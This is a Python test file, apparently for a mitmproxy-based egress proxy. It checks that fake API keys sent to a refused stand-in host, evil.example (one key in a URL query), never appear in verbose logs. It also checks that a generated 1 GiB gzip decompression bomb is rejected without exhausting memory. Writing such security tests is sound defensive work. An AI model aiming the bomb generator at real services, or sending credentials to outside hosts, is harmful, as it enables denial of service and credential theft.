"""Issue 14 item 3: at any verbosity (mitmproxy's flow_detail up to 4, which dumps headers and
bodies) no credential is printed, and memory per connection stays bounded: a gzip bomb's body is
never decompressed for the dump."""

from __future__ import annotations

import base64
import json
import socket
import uuid
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.e2e.hostile.test_hostile_memory import peak_rss
from tests.support.hostile import assert_provider_error, good_body, post
from tests.support.proxies import Proxy, start_proxy
from tests.support.stub_vllm import StubPolicy

SECRETS = ("sk-live-SECRET-1", "sk-ant-SECRET-2", "AIza-SECRET-3", "proxy-SECRET-4")


@pytest.fixture(scope="module")
def loud_proxy(
    stub: StubPolicy, confdir: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Proxy]:
    out = tmp_path_factory.mktemp("loud-proxy") / "out"
    proxy = start_proxy(stub.url, out, confdir, extra=["--set", "flow_detail=4"])
    yield proxy
    proxy.stop()


def _raw(port: int, data: bytes) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
        sock.sendall(data)
        sock.settimeout(5)
        try:
            return sock.recv(65536)
        except OSError:
            return b""


def test_no_credential_is_printed_at_flow_detail_4(loud_proxy: Proxy) -> None:
    proxy_auth = base64.b64encode(f"sess:{SECRETS[3]}".encode()).decode()
    keys = (
        f"Authorization: Bearer {SECRETS[0]}\r\nx-api-key: {SECRETS[1]}\r\n"
        f"x-goog-api-key: {SECRETS[2]}\r\nProxy-Authorization: Basic {proxy_auth}\r\n"
    )
    # A refused CONNECT, a refused plain-HTTP request, the control host, each with every key.
    assert b" 403 " in _raw(
        loud_proxy.port,
        f"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n{keys}\r\n".encode(),
    )
    assert b" 403 " in _raw(
        loud_proxy.port,
        f"GET http://evil.example/x?key={SECRETS[2]} HTTP/1.1\r\nHost: evil.example\r\n{keys}"
        "Connection: close\r\n\r\n".encode(),
    )
    _raw(
        loud_proxy.port,
        f"GET http://agenttap.local/nothing HTTP/1.1\r\nHost: agenttap.local\r\n{keys}"
        "Connection: close\r\n\r\n".encode(),
    )
    # Served calls: the keys on the CONNECT and on the request inside the tunnel.
    for protocol in ("openai.chat", "anthropic", "gemini"):
        answer = post(
            loud_proxy,
            f"sess:{SECRETS[3]}".split(":")[0],
            protocol,
            json.dumps(good_body(protocol)).encode(),
            headers={"Authorization": f"Bearer {SECRETS[0]}", "x-api-key": SECRETS[1],
                     "x-goog-api-key": SECRETS[2]},
        )  # fmt: skip
        assert answer.status == 200, answer.body[:300]
    loud_proxy.flush()
    log = loud_proxy.log.read_text(errors="replace")
    assert "CONNECT evil.example" in log or "evil.example" in log, "flow_detail=4 logged nothing?"
    for secret in (*SECRETS, proxy_auth):
        assert secret not in log, f"{secret} printed in the log"


def _gzip_bomb(decompressed: int) -> bytes:
    """A gzip body of JSON text that inflates to ``decompressed`` bytes."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    head = b'{"model": "m", "messages": [{"role": "user", "content": "'
    parts = [comp.compress(head)]
    chunk = b"a" * (1 << 20)
    for _ in range(decompressed // len(chunk)):
        parts.append(comp.compress(chunk))
    parts.append(comp.compress(b'"}]}'))
    parts.append(comp.flush())
    return b"".join(parts)


def test_a_gzip_bomb_is_not_inflated_for_the_dump(loud_proxy: Proxy) -> None:
    bomb = _gzip_bomb(1 << 30)  # 1 GiB of text in about 1 MB
    assert len(bomb) < 2 << 20
    before = peak_rss(loud_proxy.proc.pid)
    answer = post(
        loud_proxy, f"bomb-{uuid.uuid4().hex[:6]}", "openai.chat", bomb,
        headers={"Content-Encoding": "gzip"}, timeout=120,
    )  # fmt: skip
    # The dump is written after the client has its (streamed) answer: another call answered
    # means the event loop is past it.
    ok = post(
        loud_proxy, "after-bomb", "openai.chat", json.dumps(good_body("openai.chat")).encode()
    )
    assert ok.status == 200, ok.body[:300]
    after = peak_rss(loud_proxy.proc.pid)
    print(f"mitmdump peak RSS {before / 2**20:.0f} -> {after / 2**20:.0f} MiB for a 1 GiB bomb")
    assert answer.status == 413, answer.body[:300]
    assert_provider_error("openai.chat", answer)
    assert after - before < 256 * 2**20, f"grew {(after - before) / 2**20:.0f} MiB"
    assert loud_proxy.proc.poll() is None
